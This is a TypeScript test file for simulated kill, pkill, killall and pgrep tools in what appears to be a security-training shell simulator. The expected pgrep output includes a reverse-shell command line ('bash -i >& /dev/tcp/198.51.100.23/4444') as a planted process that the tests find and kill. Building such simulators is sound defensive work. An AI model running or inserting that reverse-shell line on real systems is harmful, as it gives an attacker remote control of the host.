import { describe, expect, it } from 'vitest';
import { web01 } from '../../../../test/fixtures/web01';
import { killTool } from './kill';
import { killallTool, pkillTool } from './pkill';
import type { Tool, ToolContext } from '../types';

const world = web01();
const ctx = (argv: string[], uid: number): ToolContext => ({
  argv, stdin: '', world, uid, user: uid ? 'deploy' : 'root', cwd: '/', env: new Map(), shellPid: 30000,
});
const run = (tool: Tool, argv: string[], uid = 0) => tool.run(ctx(argv, uid));

describe('kill', () => {
  it('root kills any process, default SIGTERM', () => {
    expect(run(killTool, ['kill', '22713'])).toEqual({
      stdout: '', stderr: '', exitCode: 0, events: [{ type: 'kill', at: world.now, pid: 22713, signal: 15 }],
    });
    expect(run(killTool, ['kill', '-9', '22711', '22713']).events?.map((e) => e.type === 'kill' && e.signal)).toEqual([9, 9]);
    expect(run(killTool, ['kill', '-s', 'KILL', '22719']).events).toEqual([{ type: 'kill', at: world.now, pid: 22719, signal: 9 }]);
    expect(run(killTool, ['kill', '-SIGHUP', '22570']).events?.[0]).toMatchObject({ signal: 1 });
  });

  it('a user may only signal its own processes', () => {
    expect(run(killTool, ['kill', '22570'], 1001)).toEqual({
      stdout: '', stderr: 'bash: kill: (22570) - Operation not permitted\n', exitCode: 1,
    });
    const mixed = run(killTool, ['kill', '22570', '22713'], 1001);
    expect(mixed.stderr).toBe('bash: kill: (22570) - Operation not permitted\n');
    expect(mixed.exitCode).toBe(1);
    expect(mixed.events).toEqual([{ type: 'kill', at: world.now, pid: 22713, signal: 15 }]);
  });

  it('errors word for word', () => {
    expect(run(killTool, ['kill', '99999'])).toEqual({ stdout: '', stderr: 'bash: kill: (99999) - No such process\n', exitCode: 1 });
    expect(run(killTool, ['kill', '-FOO', '1']).stderr).toBe('bash: kill: FOO: invalid signal specification\n');
    expect(run(killTool, ['kill', 'abc']).stderr).toBe('bash: kill: abc: arguments must be process or job IDs\n');
    expect(run(killTool, ['kill']).exitCode).toBe(2);
    expect(run(killTool, ['kill', '-0', '22713'])).toEqual({ stdout: '', stderr: '', exitCode: 0 });
  });

  it('kill -l', () => {
    const table = run(killTool, ['kill', '-l']).stdout.split('\n');
    expect(table[0]).toBe(' 1) SIGHUP\t 2) SIGINT\t 3) SIGQUIT\t 4) SIGILL\t 5) SIGTRAP');
    expect(table[6]).toBe('31) SIGSYS\t34) SIGRTMIN\t35) SIGRTMIN+1\t36) SIGRTMIN+2\t37) SIGRTMIN+3');
    expect(table[12]).toBe('63) SIGRTMAX-1\t64) SIGRTMAX\t');
    expect(table.length).toBe(14);
    expect(run(killTool, ['kill', '-l', '9', 'TERM', '137']).stdout).toBe('KILL\n15\nKILL\n');
  });
});

describe('pkill and killall', () => {
  it('pkill -f matches the command line', () => {
    expect(run(pkillTool, ['pkill', '-9', '-f', '4444']).events?.map((e) => e.type === 'kill' && e.pid)).toEqual([22710, 22711]);
    expect(run(pkillTool, ['pkill', 'nosuch']).exitCode).toBe(1);
    expect(run(pkillTool, ['pkill', 'socat'], 1001)).toEqual({
      stdout: '', stderr: 'pkill: killing pid 22572 failed: Operation not permitted\n', exitCode: 1,
    });
  });

  it('killall matches the name exactly', () => {
    expect(run(killallTool, ['killall', 'nc']).events).toEqual([{ type: 'kill', at: world.now, pid: 22719, signal: 15 }]);
    expect(run(killallTool, ['killall', 'n'])).toEqual({ stdout: '', stderr: 'n: no process found\n', exitCode: 1 });
  });
});

describe('pgrep', () => {
  it('lists matching pids, names or command lines', async () => {
    const { pgrepTool } = await import('./pkill');
    expect(run(pgrepTool, ['pgrep', 'bash']).stdout).toBe('22710\n22711\n22713\n');
    expect(run(pgrepTool, ['pgrep', '-l', '^nc$']).stdout).toBe('22719 nc\n');
    expect(run(pgrepTool, ['pgrep', '-af', '/dev/tcp']).stdout).toBe(
      "22710 bash -c bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' & sleep 3600\n" +
      '22711 bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n');
    expect(run(pgrepTool, ['pgrep', '-c', '-u', 'deploy']).stdout).toBe('6\n');
    expect(run(pgrepTool, ['pgrep', 'nosuch'])).toEqual({ stdout: '', stderr: '', exitCode: 1 });
  });
});
